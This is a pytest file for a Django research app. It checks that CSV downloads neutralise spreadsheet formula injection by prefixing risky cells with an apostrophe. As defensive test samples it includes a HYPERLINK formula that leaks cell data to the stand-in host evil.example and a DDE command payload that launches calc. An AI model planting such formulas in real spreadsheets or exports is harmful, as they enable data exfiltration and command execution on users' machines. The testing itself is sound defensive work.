"""CSV downloads never carry a cell a spreadsheet would run as a formula (one helper, core.spreadsheets)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from breakthrough.core.spreadsheets import csv_writer, neutralise
from breakthrough.study import redcap
from breakthrough.study.models import Excerpt, Instrument, Item
from tests.study.helpers import make_study

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1, "click")'


@pytest.mark.parametrize("typed", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
def test_a_formula_start_gets_a_leading_apostrophe(typed):
    assert neutralise(typed) == "'" + typed


@pytest.mark.parametrize("value", ["plain", "a=b", "", 3, -2.5, None])
def test_other_cells_are_left_as_they_are(value):
    assert neutralise(value) == value


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    csv_writer(out).writerows([["=A1", "ok", -1], ["@x", "+y", "z"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=A1", "ok", "-1"], ["'@x", "'+y", "z"]]


def test_the_exports_app_uses_the_same_helper():
    from breakthrough.exports import writers

    assert writers.neutralise is neutralise


@pytest.mark.django_db
def test_interview_excerpts_download_neutralises_a_typed_formula(cast):
    study = make_study(cast)
    interview = study["interview"]
    interview.text = HYPERLINK
    interview.save()
    excerpt = Excerpt.objects.create(interview=interview, text=HYPERLINK)
    excerpt.codes.add(study["code"])
    client = Client()
    client.force_login(cast.evaluator)
    body = client.get(reverse("study:excerpts-export")).content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1][-1] == "'" + HYPERLINK
    assert not any(cell.startswith("=") for row in rows for cell in row)


@pytest.mark.django_db
def test_redcap_export_neutralises_a_formula_in_a_label():
    instrument = Instrument.objects.create(slug="formula", name="Formula", kind="survey")
    Item.objects.create(instrument=instrument, number=1, code="q1", text_en="=cmd|' /C calc'!A0")
    rows = list(csv.reader(io.StringIO(redcap.instrument_export(instrument))))
    assert rows[1][4] == "'=cmd|' /C calc'!A0"
